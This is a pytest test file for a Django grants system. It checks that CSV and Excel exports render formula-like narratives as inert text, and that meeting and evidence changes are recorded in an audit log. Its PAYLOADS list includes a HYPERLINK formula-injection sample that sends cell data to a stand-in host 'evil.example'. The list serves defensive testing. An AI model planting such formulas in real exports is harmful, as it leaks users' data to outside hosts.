"""Exports never carry a live formula; the audit log records what the review found missing."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from grants import services
from grants.models import MonitoringMeeting
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+SUM(1+1)",
    "-2+3",
    "@SUM(1)",
    "\tcmd",
    "\rcmd",
]


@pytest.fixture
def poisoned(funded):
    draft = funded.start()
    services.save_indicator_answer(
        quarterly_return=draft,
        indicator=funded.indicators["per_quarter"],
        by=funded.provider_user,
        expected_version=None,
        actual_value=Decimal("4"),
        narrative=" | ".join(PAYLOADS),
    )
    qr = funded.complete(
        draft, per_quarter={"actual_value": Decimal("4"), "narrative": PAYLOADS[0]}
    )
    services.submit_return(quarterly_return=qr, by=funded.provider_user)
    return funded


def test_a_narrative_that_looks_like_a_formula_is_text_in_every_export(poisoned, client):
    client.force_login(poisoned.officer)

    def export(fmt):
        return client.get(reverse("grants:indicator_results_export", args=[fmt])).content

    rows = list(csv.reader(io.StringIO(export("csv").decode("utf-8-sig"))))
    book = load_workbook(io.BytesIO(export("xlsx")))

    narrative = rows[0].index("Narrative")
    texts = [row[narrative] for row in rows[1:]]
    assert f"'{PAYLOADS[0]}" in texts
    assert not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    cells = [row[narrative] for row in book.active.iter_rows() if row[narrative].value]
    assert all(c.data_type == "s" for c in cells)
    assert any(str(c.value).startswith("=HYPERLINK") for c in cells)
    actual = rows[0].index("Actual")
    assert rows[1][actual] == "4"
    assert next(book.active.iter_rows(min_row=2, values_only=True))[actual] == 4


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_made_inert_in_csv(payload):
    from sla_monitor.exports import _csv

    body = _csv(["Text", "Number"], [[payload, -3]]).decode("utf-8-sig")
    row = next(csv.reader(io.StringIO(body[body.index("\n") + 1 :])))

    assert row == [f"'{payload}", "-3"]


def test_meetings_recorded_changed_and_deleted_are_in_the_audit_log(funded, client):
    meeting = services.record_meeting(
        agreement=funded.agreement,
        by=funded.officer,
        held_on=dt.date(2025, 7, 15),
        period=None,
        attendees="Priya Shah",
    )
    root = UserFactory(superuser=True, username="root")
    client.force_login(root)
    client.post(
        reverse("admin:grants_monitoringmeeting_change", args=[meeting.pk]),
        {
            "agreement": funded.agreement.pk,
            "held_on": "2025-07-16",
            "attendees": "Priya Shah, Sam Okafor",
            "recorded_by": funded.officer.pk,
        },
    )
    client.post(
        reverse("admin:grants_monitoringmeeting_delete", args=[meeting.pk]), {"post": "yes"}
    )

    history = client.get(reverse("oversight:audit_log"), {"kind": "history"}).context["events"]

    meetings = [e for e in history if " monitoring meeting “" in e.what]
    assert [e.what.split(" “")[0] for e in meetings] == [
        "Deleted monitoring meeting",
        "Changed monitoring meeting",
        "Added monitoring meeting",
    ]
    assert meetings[1].who == root
    assert "Attendees: Priya Shah → Priya Shah, Sam Okafor" in meetings[1].details
    assert not MonitoringMeeting.objects.exists()


def test_evidence_uploaded_and_removed_is_in_the_audit_log(draft_with_evidence, client):
    draft = draft_with_evidence
    evidence = draft.evidence_files.get()
    client.post(
        reverse("grants:evidence_remove", args=[draft.pk, evidence.pk]),
        {"version": draft.version},
    )
    client.force_login(UserFactory(superuser=True, username="root"))

    history = client.get(reverse("oversight:audit_log"), {"kind": "history"}).context["events"]

    said = [(e.who.username, e.what) for e in history if "evidence" in e.what]
    assert said == [
        ("provider", "Deleted evidence file “casework.pdf”"),
        ("provider", "Added evidence file “casework.pdf”"),
    ]
